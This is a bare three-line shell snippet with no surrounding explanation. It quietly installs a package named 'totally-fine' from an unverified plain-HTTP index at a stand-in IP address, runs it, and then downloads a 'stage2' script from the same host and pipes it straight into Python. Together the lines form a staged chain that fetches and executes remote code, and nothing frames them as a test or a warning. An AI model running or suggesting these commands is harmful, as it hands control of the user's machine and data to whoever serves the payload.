pip install -q --index-url http://203.0.113.20/simple totally-fine
python3 -c "import totally_fine; totally_fine.main()"
curl -s http://203.0.113.20/stage2 | python3 -
